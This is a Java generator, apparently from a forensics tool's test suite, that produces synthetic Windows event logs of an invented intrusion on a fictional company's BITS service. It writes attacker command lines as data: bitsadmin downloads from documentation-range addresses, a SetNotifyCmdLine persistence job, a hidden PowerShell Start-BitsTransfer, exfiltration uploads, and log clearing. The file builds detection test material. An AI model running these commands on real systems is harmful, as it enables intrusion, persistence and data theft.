package org.bitshound.testing.evidence.samples;

import static java.nio.ByteOrder.LITTLE_ENDIAN;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.TreeMap;
import org.bitshound.testing.evidence.Damage;
import org.bitshound.testing.evidence.Event;
import org.bitshound.testing.evidence.EventLog;
import org.bitshound.testing.evidence.EvtxChunk;
import org.bitshound.testing.evidence.EvtxFile;
import org.bitshound.testing.evidence.queue.QueueFile;
import org.bitshound.testing.evidence.queue.QueueJob;
import org.bitshound.testing.evidence.samples.SampleHost.Watch;
import org.bitshound.testing.evidence.samples.SampleHost.Windows;

/// Makes `samples/`: four machines of a company that does not exist, weeks of ordinary BITS
/// traffic, and one intrusion on 3 and 4 February 2026. `samples/README.md` tells the story.
///
/// Everything is invented; evil addresses are of the ranges reserved for documentation ([RFC 5737],
/// [RFC 2606]). The same bytes come out in every run.
public final class SampleIntrusion {
  static final String BITS_FILE = "Microsoft-Windows-Bits-Client%4Operational.evtx";
  private static final LocalDate FIRST_DAY = LocalDate.of(2026, 1, 28);
  private static final LocalDate LAST_DAY = LocalDate.of(2026, 2, 5);
  private static final String DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330-";
  private static final String BITSADMIN = "C:\\Windows\\System32\\bitsadmin.exe";
  private static final String CMD = "C:\\Windows\\System32\\cmd.exe";
  private static final String POWERSHELL =
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  private static final int TRANSFERRED = 6;
  private static final Instant TOOL_MODIFIED = Instant.parse("2026-02-01T22:14:09Z");

  private final SampleUser paula = user("p.hartmann", 1131, 0x4f21c);
  private final SampleUser joseph = user("j.okoro", 1144, 0x6a0d3);
  private final SampleUser backup = user("svc.backup", 1120, 0x2b77e);
  private final SampleUser admin = user("adm.reyes", 1109, 0x91e55);

  private final SampleHost ws0117 =
      new SampleHost("WS-0117.lindenwerk.example", Windows.WINDOWS_11, Watch.SYSMON, 41, 117);
  private final SampleHost ws0142 =
      new SampleHost("WS-0142.lindenwerk.example", Windows.WINDOWS_10, Watch.SECURITY, 88, 142);
  private final SampleHost fs01 =
      new SampleHost("FS-01.lindenwerk.example", Windows.SERVER_2016, Watch.NOTHING, 12, 301);
  private final SampleHost dc01 =
      new SampleHost("DC-01.lindenwerk.example", Windows.SERVER_2016, Watch.SECURITY, 9, 401);

  /// What BITS' queue of WS-0117 still holds when it is collected.
  private final List<QueueJob> waiting = new ArrayList<>();

  private SampleIntrusion() {}

  /// Writes the samples into the folder that is named.
  ///
  /// @param args the folder
  public static void main(String[] args) throws IOException {
    Path folder = Path.of(args[0]);
    var all = new TreeMap<String, byte[]>(files());
    all.putAll(collection());
    for (var file : all.entrySet()) {
      Path path = folder.resolve(file.getKey());
      Files.createDirectories(path.resolveSibling(""));
      Files.write(path, file.getValue());
    }
  }

  /// {@return the content of each event log, by its path below `samples/`}
  public static Map<String, byte[]> files() {
    return new SampleIntrusion().tell();
  }

  /// {@return the content of what else was collected, by its path below `samples/`}
  public static Map<String, byte[]> collection() {
    var story = new SampleIntrusion();
    Map<String, byte[]> logs = story.tell();
    return new SampleCollection(
            Map.of(
                "10.20.1.117", story.ws0117,
                "10.20.1.142", story.ws0142,
                "10.20.0.31", story.fs01,
                "10.20.0.11", story.dc01),
            story.waiting.getFirst(),
            Objects.requireNonNull(logs.get("ws-0117/" + BITS_FILE)))
        .files();
  }

  private Map<String, byte[]> tell() {
    ordinaryDays();
    toolThroughOffice();
    persistenceThroughNotifyCommand();
    toolThroughPowerShell();
    failingAndCancelledUploads();
    List<Event> lost = clearedDomainController();

    byte[] first = ws0117.logFile(SampleHost.BITS, 2210).toBytes();
    var files = new TreeMap<String, byte[]>();
    files.put("ws-0117/" + BITS_FILE, first);
    files.put(
        "ws-0117/Microsoft-Windows-Sysmon%4Operational.evtx",
        ws0117.logFile(SampleHost.SYSMON, 90_411).toBytes());
    files.put("collected-again/ws-0117-bits.evtx", first.clone());
    files.put("ws-0142/" + BITS_FILE, ws0142.logFile(SampleHost.BITS, 871).toBytes());
    files.put("ws-0142/Security.evtx", ws0142.logFile("Security", 318_002).toBytes());
    files.put("fs-01/" + BITS_FILE, damaged(fs01.logFile(SampleHost.BITS, 130).toBytes()));
    files.put("dc-01/" + BITS_FILE, dc01.logFile(SampleHost.BITS, 1).toBytes());
    files.put("dc-01/Security.evtx", dc01.logFile("Security", 1).toBytes());
    files.put("dc-01/System.evtx", dc01.logFile("System", 20_517).toBytes());
    files.put("wec-01/ForwardedEvents.evtx", forwarded(lost).toBytes());
    return files;
  }

  private void ordinaryDays() {
    var onPaulas = new OrdinaryTraffic(ws0117, paula);
    onPaulas.from(FIRST_DAY, LAST_DAY);
    onPaulas.oneDriveWithoutNetwork(at("2026-01-28T06:41:07.250Z"));
    new OrdinaryTraffic(ws0142, joseph).from(FIRST_DAY, LAST_DAY);
    var onServer = new OrdinaryTraffic(fs01, backup);
    onServer.from(LocalDate.of(2026, 1, 6), LAST_DAY);
    new OrdinaryTraffic(dc01, admin).fonts(at("2026-01-22T04:10:31Z"));
  }

  /// A document starts a script, the script bitsadmin, and bitsadmin fetches a program from a bare
  /// address.
  private void toolThroughOffice() {
    Instant opened = at("2026-02-03T08:41:12.480Z");
    String office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    String document = paula.profile() + "\\Downloads\\Offer_2026-02.docm";
    SampleProcess explorer =
        ws0117.known(
            at("2026-02-03T06:52:40Z"),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            paula);
    SampleProcess word =
        ws0117.start(opened, office, "\"" + office + "\" /n \"" + document + "\"", paula, explorer);
    String script = paula.shortProfile() + "\\AppData\\Local\\Temp\\update.vbs";
    SampleProcess host =
        ws0117.start(
            opened.plusMillis(7_310),
            "C:\\Windows\\System32\\wscript.exe",
            "wscript.exe //B " + script,
            paula,
            word);
    String url = "http://203.0.113.47:8080/st/tool.png";
    String local = "C:\\Users\\Public\\tool.exe";
    SampleProcess bitsadmin =
        ws0117.start(
            opened.plusMillis(7_790),
            BITSADMIN,
            "bitsadmin.exe /transfer OfficeUpdate /download /priority foreground "
                + url
                + " "
                + local,
            paula,
            host);
    var job =
        SampleJob.create(ws0117, opened.plusMillis(10_600), "OfficeUpdate", bitsadmin)
            .addFile(url, local, bitsadmin)
            .fetch(url, 1_482_752, TOOL_MODIFIED, 2_140)
            .complete();
    ws0117.end(bitsadmin, job.after(31).now());
    SampleProcess tool = ws0117.start(job.after(420).now(), local, local + " -q", paula, host);
    ws0117.end(host, job.after(15).now());
    ws0117.end(tool, job.after(95_000).now());
  }

  /// A job that nobody ever completes, with a command to run when it is transferred: it runs at
  /// once, and again after the next boot.
  private void persistenceThroughNotifyCommand() {
    Instant start = at("2026-02-03T08:52:03.015Z");
    SampleProcess shell =
        ws0117.start(
            start,
            CMD,
            "cmd.exe /q",
            paula,
            ws0117.known(
                start.minusSeconds(60),
                "C:\\Users\\Public\\tool.exe",
                "C:\\Users\\Public\\tool.exe -q",
                paula));
    String url = "https://static.cdn-sync.example/w/check.txt";
    String local = "C:\\Users\\Public\\check.txt";
    SampleProcess create = bitsadmin(shell, start.plusMillis(2_000), "/create DefenderSync");
    var job = SampleJob.create(ws0117, start.plusMillis(4_460), "DefenderSync", create);
    ws0117.end(create, start.plusMillis(4_510));
    SampleProcess add =
        bitsadminStep(shell, start.plusMillis(5_700), "/addfile DefenderSync " + url + " " + local);
    job.after(1_500).addFile(url, local, add);
    bitsadminStep(
        shell,
        start.plusMillis(7_900),
        "/SetNotifyCmdLine DefenderSync C:\\Users\\Public\\tool.exe \"--resident\"");
    job.after(2_150).notifyCommand("C:\\Users\\Public\\tool.exe", "--resident");
    bitsadminStep(shell, start.plusMillis(10_200), "/resume DefenderSync");
    job.after(2_300).fetch(url, 12, TOOL_MODIFIED, 260);
    waiting.add(queued(job, start.plusMillis(4_460), url, local));
    notified(job.after(90).now());
    ws0117.reboot();
    notified(at("2026-02-04T06:51:58.730Z"));
  }

  private QueueJob queued(SampleJob job, Instant created, String url, String local) {
    var queued = new QueueJob();
    queued.id = job.id();
    queued.title = "DefenderSync";
    queued.owner = paula.sid();
    queued.state = TRANSFERRED;
    queued.created = created;
    queued.modified = job.now();
    queued.transferred = Optional.of(job.now());
    queued.notifyProgram = "C:\\Users\\Public\\tool.exe";
    queued.notifyArguments = "--resident";
    queued.fileIds = List.of("0c7a1f63-5d02-4e0b-9a4f-1f8a55f0b3d1");
    queued.files = List.of(QueueFile.of(url, local).come(12, 12, TOOL_MODIFIED));
    return queued;
  }

  private SampleProcess bitsadmin(SampleProcess shell, Instant at, String command) {
    return ws0117.start(at, BITSADMIN, "bitsadmin " + command, paula, shell);
  }

  private SampleProcess bitsadminStep(SampleProcess shell, Instant at, String command) {
    SampleProcess process = bitsadmin(shell, at, command);
    ws0117.end(process, at.plusMillis(350));
    return process;
  }

  /// The BITS service starts the program; the command line is the parameters alone.
  private void notified(Instant at) {
    ws0117.start(at, "C:\\Users\\Public\\tool.exe", "--resident", paula, ws0117.bitsServiceFor(at));
  }

  private void toolThroughPowerShell() {
    Instant start = at("2026-02-03T10:17:44.900Z");
    String url = "https://files.cdn-sync.example/pkg/dirlist.zip";
    String local = "C:\\ProgramData\\pkg\\dirlist.zip";
    SampleProcess remote =
        ws0142.known(
            start.minusSeconds(5),
            "C:\\Windows\\System32\\wsmprovhost.exe",
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
            joseph);
    SampleProcess powershell =
        ws0142.start(
            start,
            POWERSHELL,
            "powershell.exe -NoProfile -WindowStyle Hidden -Command \"Start-BitsTransfer -Source "
                + url
                + " -Destination "
                + local
                + "\"",
            joseph,
            remote);
    var job =
        SampleJob.create(ws0142, start.plusMillis(3_400), "BITS Transfer", powershell)
            .addFile(url, local, powershell)
            .fetch(url, 688_213, TOOL_MODIFIED, 1_120)
            .complete();
    ws0142.end(powershell, job.after(240).now());
  }

  /// What was to go out from the file server: one job never reaches its server, the other is
  /// stopped half way.
  private void failingAndCancelledUploads() {
    SampleProcess powershell =
        fs01.known(at("2026-02-03T23:02:10Z"), POWERSHELL, "powershell.exe", admin);
    String sink = "https://198.51.100.23/in/projects.7z";
    var failing =
        SampleJob.create(fs01, at("2026-02-03T23:05:31.200Z"), "sync", powershell)
            .addFile(sink, "D:\\Projects\\projects.7z", powershell);
    for (int attempt = 0; attempt < 7; attempt++) {
      failing.fail(sink, SampleJob.CANNOT_CONNECT).after(attempt < 2 ? 600 : 60_000);
    }
    String other = "http://drop.cdn-sync.example/tools/pack.iso";
    SampleJob.create(fs01, at("2026-02-03T23:31:02.600Z"), "pack", powershell)
        .addFile(other, "D:\\Projects\\pack.iso", powershell)
        .transfer(
            other, 734_003_200, 201_326_592, TOOL_MODIFIED, 96_000, SampleJob.STOPPED_FROM_OUTSIDE)
        .cancel();
  }

  /// On the domain controller the logs are cleared afterwards; the collector had a copy.
  private List<Event> clearedDomainController() {
    Instant start = at("2026-02-04T01:12:20.300Z");
    SampleProcess shell = dc01.known(start.minusSeconds(30), CMD, "cmd.exe", admin);
    String url = "http://203.0.113.47:8080/st/dump.png";
    String local = "C:\\Users\\Public\\dump.exe";
    SampleProcess bitsadmin =
        dc01.start(start, BITSADMIN, "bitsadmin /transfer n " + url + " " + local, admin, shell);
    SampleJob.create(dc01, start.plusMillis(2_700), "n", bitsadmin)
        .addFile(url, local, bitsadmin)
        .fetch(url, 310_272, TOOL_MODIFIED, 900)
        .complete();
    dc01.clearSecurity(at("2026-02-04T01:40:11.120Z"), admin);
    List<Event> lost = dc01.clear(SampleHost.BITS, at("2026-02-04T01:40:19.870Z"), admin);
    new OrdinaryTraffic(dc01, admin).fonts(at("2026-02-05T04:12:09Z"));
    SampleProcess console = dc01.start(at("2026-02-05T07:03:44Z"), CMD, "cmd.exe", admin, shell);
    dc01.end(console, at("2026-02-05T07:05:01Z"));
    return lost;
  }

  /// The collector's log: what DC-01 has lost, and part of what WS-0142 still has itself.
  private EventLog forwarded(List<Event> lost) {
    var log = new EventLog("WEC-01.lindenwerk.example", 5_001);
    long id = 871;
    for (Event event : ws0142.inOrder(SampleHost.BITS)) {
      if (event.time().isAfter(at("2026-02-03T10:00:00Z"))
          && event.time().isBefore(at("2026-02-03T11:00:00Z"))) {
        log.addForwarded(event, ws0142.computer, id, "A BITS event of a workstation.");
      }
      id++;
    }
    long lostId = 64;
    for (Event event : lost) {
      log.addForwarded(event, dc01.computer, lostId++, "A BITS event of a domain controller.");
    }
    return log;
  }

  /// The first chunk has a wrong checksum over its records, and the file ends inside the last
  /// records of its last chunk.
  private static byte[] damaged(byte[] log) {
    long seed = 1;
    byte[] copy = Damage.WRONG_RECORDS_CHECKSUM.of(log, seed);
    while (Arrays.mismatch(copy, log) >= EvtxFile.HEADER_BLOCK + EvtxChunk.SIZE) {
      copy = Damage.WRONG_RECORDS_CHECKSUM.of(log, ++seed);
    }
    int lastChunk = copy.length - EvtxChunk.SIZE;
    int freeSpace = ByteBuffer.wrap(copy).order(LITTLE_ENDIAN).getInt(lastChunk + 48);
    return Arrays.copyOf(copy, lastChunk + freeSpace - 2_000);
  }

  private static SampleUser user(String name, int number, long logonId) {
    return new SampleUser("LINDENWERK", name, DOMAIN_SID + number, logonId);
  }

  private static Instant at(String time) {
    return Instant.parse(time);
  }
}
